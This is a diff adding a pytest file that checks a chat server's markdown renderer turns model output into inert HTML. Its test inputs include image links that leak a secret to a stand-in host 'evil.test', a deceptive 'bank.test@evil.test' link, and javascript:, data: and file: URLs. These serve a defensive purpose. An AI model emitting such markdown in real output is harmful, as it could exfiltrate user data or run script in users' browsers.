@@ -1,0 +1,69 @@
+"""What a model wrote becomes HTML that can do nothing."""
+
+from __future__ import annotations
+
+import pytest
+
+from gigachat_server.web.markdown import LONGEST, is_safe_link, markdown
+from tests.web.pages import Page
+from tests.web.payloads import XSS
+
+
+def test_what_models_write_is_rendered() -> None:
+    html = markdown("# Title\n\n**bold** and `code`\n\n- one\n- two\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n\n```sh\ncurl x\n```")
+    for part in (
+        "<h1>Title</h1>",
+        "<strong>bold</strong>",
+        "<code>code</code>",
+        "<li>one</li>",
+        '<td class="align-right">2</td>',
+    ):
+        assert part in html
+    assert '<pre><code class="language-sh">curl x\n</code></pre>' in html
+
+
+@pytest.mark.parametrize("payload", XSS)
+def test_nothing_runs_and_nothing_is_fetched(payload: str) -> None:
+    for text in (payload, f"**{payload}**", f"- {payload}", f"> {payload}", f"`{payload}`", f"[{payload}](https://a.test/)"):
+        assert Page(markdown(text)).dangers == []
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "![alt](https://evil.test/a.png?leak=secret)",
+        "![alt][leak]\n\n[leak]: https://evil.test/a.png",
+        "[![alt](https://evil.test/a.png)](https://evil.test/)",
+        "![](//evil.test/a.png)",
+        "![a]( <https://evil.test/a.png> 'title')",
+    ],
+)
+def test_images_are_links_at_most(text: str) -> None:
+    html = markdown(text)
+    assert "<img" not in html
+    assert "src=" not in html
+
+
+def test_a_link_tells_its_host_and_passes_nothing_on() -> None:
+    page = Page(markdown("[https://bank.test](https://bank.test@evil.test:8443/x?y 'https://bank.test') <https://a.test/b>"))
+    assert page.text == "https://bank.test (evil.test:8443) https://a.test/b (a.test)"
+    for link in page.links:
+        assert link["rel"] == "noopener noreferrer nofollow"
+        assert link["target"] == "_blank"
+        assert "title" not in link
+
+
+@pytest.mark.parametrize(
+    "url",
+    ["javascript:alert(1)", "JaVaScRiPt:x", "data:text/html,x", "//a.test", "/logout", "https:", "file:///x", "", "http:///x"],
+)
+def test_other_addresses_are_no_links(url: str) -> None:
+    assert not is_safe_link(url)
+    assert "<a" not in markdown(f"[x]({url})")
+
+
+def test_what_would_take_long_is_shown_as_it_is() -> None:
+    for text in ("<b>" + "[" * LONGEST, "|a" * 200 + "\n" + "|-" * 200 + "\n" + "<b>\n" * 200):
+        html = markdown(text)
+        assert html.startswith('<p class="plain">')
+        assert "&lt;b&gt;" in html
